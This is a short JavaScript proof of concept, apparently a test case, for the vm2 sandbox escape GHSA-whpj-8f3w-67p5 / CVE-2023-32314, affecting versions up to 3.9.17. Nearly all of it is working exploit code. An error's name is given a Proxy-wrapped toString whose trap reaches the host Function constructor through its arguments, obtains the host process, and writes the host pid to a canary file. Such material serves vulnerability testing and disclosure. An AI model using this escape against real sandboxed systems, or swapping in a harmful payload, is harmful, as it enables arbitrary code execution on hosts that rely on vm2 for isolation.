// GHSA-whpj-8f3w-67p5 (CVE-2023-32314), all of vm2 up to 3.9.17: the host asks an error for its stack, and hands its own
// arguments to the guest's trap.
const error = new Error()
error.name = {
  toString: new Proxy(() => '', {
    apply(target, self, args) {
      const host = args.constructor.constructor('return process')()
      host.getBuiltinModule('fs').writeFileSync(CANARY, String(host.pid))
    },
  }),
}
return error.stack + error
